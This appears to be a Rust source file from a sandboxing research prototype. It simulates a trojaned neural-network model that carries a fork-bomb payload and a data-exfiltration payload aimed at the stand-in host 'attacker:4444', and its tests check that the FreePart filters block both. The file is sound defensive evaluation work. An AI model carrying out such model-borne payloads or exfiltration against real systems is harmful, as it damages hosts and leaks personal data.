//! The StegoNet trojan-model case study (paper §A.7).
//!
//! StegoNet hides a malicious payload (a fork bomb in the paper's
//! example) inside DNN model parameters; the payload detonates in
//! whatever process loads/executes the model. Two companion programs
//! carry sensitive data: a medical CT analyzer (patient name/age/phone)
//! and a tax-invoice OCR tool (taxpayer id, bank account).

use freepart_baselines::ApiSurface;
use freepart_frameworks::tensor::Tensor;
use freepart_frameworks::{fileio, ExploitPayload, ObjectId, Value};

/// Which companion program to run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StegoApp {
    /// CT-image medical analyzer with patient PII.
    MedicalCt,
    /// Tax-invoice OCR with financial PII.
    InvoiceOcr,
}

/// Session configuration.
#[derive(Debug, Clone)]
pub struct StegoConfig {
    /// Which host application.
    pub app: StegoApp,
    /// Inputs to process.
    pub inputs: u32,
    /// The trojaned model's payload, if attacking.
    pub trojan: Option<ExploitPayload>,
}

/// Session outcome.
#[derive(Debug)]
pub struct StegoResult {
    /// The sensitive host data object (patient / taxpayer record).
    pub pii: ObjectId,
    /// Its contents.
    pub pii_contents: Vec<u8>,
    /// Inputs fully classified.
    pub processed: u32,
}

/// Runs the case-study application.
pub fn run(surface: &mut dyn ApiSurface, cfg: &StegoConfig) -> StegoResult {
    let pii_contents: Vec<u8> = match cfg.app {
        StegoApp::MedicalCt => b"patient=Jane Doe;age=44;phone=555-0100".to_vec(),
        StegoApp::InvoiceOcr => b"taxpayer=TIN-998877;account=IBAN-XX12".to_vec(),
    };
    let pii = surface.host_data("sensitive-record", &pii_contents);
    surface.finish_setup();

    // The (possibly trojaned) model arrives as a file.
    let weights = Tensor::generate(&[64], |i| (i as f32 * 0.05).tanh());
    surface.kernel_mut().fs_put(
        "/models/classifier.stsr",
        fileio::encode_tensor(&weights, cfg.trojan.as_ref()),
    );
    let model = surface.call("torch.load", &[Value::from("/models/classifier.stsr")]);

    let mut processed = 0;
    if let Ok(model) = model {
        for i in 0..cfg.inputs {
            let ok = (|| -> Result<(), freepart::CallError> {
                let path = format!("/inputs/scan-{i}.simg");
                let img = freepart_frameworks::image::Image::new(16, 16, 1);
                surface
                    .kernel_mut()
                    .fs_put(&path, fileio::encode_image(&img, None));
                let loaded = surface.call("cv2.imread", &[Value::Str(path)])?;
                let gray = surface.call("cv2.cvtColor", &[loaded])?;
                // Mat → tensor hand-off happens host-side in the real
                // programs; here the detector consumes the image and the
                // classifier the model.
                let _edges = surface.call("cv2.Canny", &[gray])?;
                let input = surface.call("torch.tensor", &[Value::I64(64)])?;
                let probs = surface.call("torch.nn.Module.forward", &[model.clone(), input])?;
                surface.call("torch.argmax", &[probs])?;
                Ok(())
            })();
            if ok.is_ok() {
                processed += 1;
            }
        }
    }
    StegoResult {
        pii,
        pii_contents,
        processed,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart::{Policy, Runtime};
    use freepart_attacks::{judge, payloads, AttackGoal, Verdict};
    use freepart_baselines::MonolithicRuntime;
    use freepart_frameworks::registry::standard_registry;
    use freepart_frameworks::ActionOutcome;

    #[test]
    fn benign_sessions_classify_everything() {
        for app in [StegoApp::MedicalCt, StegoApp::InvoiceOcr] {
            let mut rt = MonolithicRuntime::original(standard_registry());
            let r = run(
                &mut rt,
                &StegoConfig {
                    app,
                    inputs: 3,
                    trojan: None,
                },
            );
            assert_eq!(r.processed, 3);
        }
    }

    #[test]
    fn fork_bomb_detonates_in_original_blocked_by_freepart() {
        // Original: no filter — the fork bomb "succeeds".
        let mut rt = MonolithicRuntime::original(standard_registry());
        let cfg = StegoConfig {
            app: StegoApp::MedicalCt,
            inputs: 2,
            trojan: Some(payloads::stegonet_fork_bomb("CVE-2022-45907")),
        };
        run(&mut rt, &cfg);
        assert!(rt.exploit_log().last().unwrap().outcome.achieved());

        // FreePart: no agent's allowlist contains fork — SIGSYS.
        let mut rt = Runtime::install(standard_registry(), Policy::freepart());
        // Warm the loading agent so its filter is sealed before the
        // trojaned model arrives.
        rt.kernel.fs_put(
            "/models/warm.stsr",
            fileio::encode_tensor(&Tensor::generate(&[4], |_| 0.0), None),
        );
        rt.call("torch.load", &[Value::from("/models/warm.stsr")])
            .unwrap();
        run(&mut rt, &cfg);
        assert!(matches!(
            rt.exploit_log.last().unwrap().outcome,
            ActionOutcome::SyscallKilled
        ));
        assert!(rt.kernel.is_running(rt.host_pid()), "host unharmed");
    }

    #[test]
    fn pii_exfiltration_blocked_under_freepart() {
        let mut rt = Runtime::install(standard_registry(), Policy::freepart());
        let addr = {
            let mut p = Runtime::install(standard_registry(), Policy::freepart());
            let r = run(
                &mut p,
                &StegoConfig {
                    app: StegoApp::InvoiceOcr,
                    inputs: 1,
                    trojan: None,
                },
            );
            p.objects.meta(r.pii).unwrap().buffer.unwrap().0
        };
        let cfg = StegoConfig {
            app: StegoApp::InvoiceOcr,
            inputs: 2,
            trojan: Some(payloads::exfiltrate(
                "CVE-2022-45907",
                addr.0,
                38,
                "attacker:4444",
            )),
        };
        let r = run(&mut rt, &cfg);
        let log = rt.exploit_log.clone();
        let (kernel, objects, host) = rt.attack_view();
        let v = judge(
            &AttackGoal::Exfiltrate {
                marker: b"TIN-998877".to_vec(),
            },
            kernel,
            objects,
            host,
            &log,
        );
        assert_eq!(v, Verdict::Prevented);
        let _ = r;
    }
}
